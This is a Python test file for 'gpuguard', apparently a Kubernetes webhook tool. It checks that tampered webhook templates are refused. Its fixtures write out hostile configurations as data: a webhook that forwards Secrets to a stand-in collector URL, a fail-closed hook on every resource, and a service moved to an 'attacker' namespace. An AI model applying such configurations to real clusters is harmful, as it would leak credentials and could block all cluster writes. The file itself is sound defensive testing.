"""Self-managed mode writes only gpuguard's own webhooks: a template edited to send Secrets to a URL, or to put a
Fail webhook on every write, is refused whole."""

from __future__ import annotations

import copy
from typing import Any

import pytest
import yaml

from gpuguard.webhook.cli.webhook_config import build_webhook_configurations
from gpuguard.webhook.server.webhook_template import template_problems
from tests.support.paths import REPO

HOSTS = ("gpuguard.gpuguard.svc", "gpuguard.gpuguard.svc.cluster.local")


def _shipped() -> list[dict[str, Any]]:
    """The template the self-managed overlay ships (the ConfigMap's webhooks.yaml, made by its kustomization)."""
    text = (REPO / "deploy" / "overlays" / "self-managed" / "webhooks.yaml").read_text()
    return [d for d in yaml.safe_load_all(text) if d]


def test_the_shipped_template_and_a_generated_one_are_gpuguards_own() -> None:
    assert template_problems(_shipped(), "gpuguard", "gpuguard", HOSTS) == []
    by_url = build_webhook_configurations(url="https://127.0.0.1:8443", ca_bundle=None)
    assert template_problems(by_url, "gpuguard", "gpuguard", ("127.0.0.1",)) == []


def _attacked(change) -> list[dict[str, Any]]:
    docs = copy.deepcopy(_shipped())
    change(docs)
    return docs


def _secrets_to_a_url(docs: list[dict[str, Any]]) -> None:
    docs[1]["webhooks"].append({"name": "exfil.gpuguard.io", "clientConfig": {"url": "https://collector.example/x"},
                                "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"],
                                           "operations": ["CREATE", "UPDATE"]}]})


def _fail_on_everything(docs: list[dict[str, Any]]) -> None:
    hook = docs[0]["webhooks"][0]
    hook["failurePolicy"] = "Fail"
    hook["rules"] = [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]


def _another_service(docs: list[dict[str, Any]]) -> None:
    docs[0]["webhooks"][0]["clientConfig"]["service"]["namespace"] = "attacker"


def _deletes_too(docs: list[dict[str, Any]]) -> None:
    docs[1]["webhooks"][0]["rules"][0]["operations"] = ["CREATE", "UPDATE", "DELETE"]


@pytest.mark.parametrize(("change", "said"), [
    (_secrets_to_a_url, "clientConfig.url 'https://collector.example/x' is not gpuguard's"),
    (_fail_on_everything, "rules cover */*/*, which gpuguard does not judge"),
    (_another_service, "clientConfig.service is attacker/gpuguard, not gpuguard's gpuguard/gpuguard"),
    (_deletes_too, "operations ['CREATE', 'UPDATE', 'DELETE'] beyond"),
], ids=["secrets-to-a-url", "fail-on-everything", "another-service", "deletes-too"])
def test_a_template_that_is_not_gpuguards_own_is_refused(change, said) -> None:
    problems = template_problems(_attacked(change), "gpuguard", "gpuguard", HOSTS)
    assert any(said in p for p in problems), problems
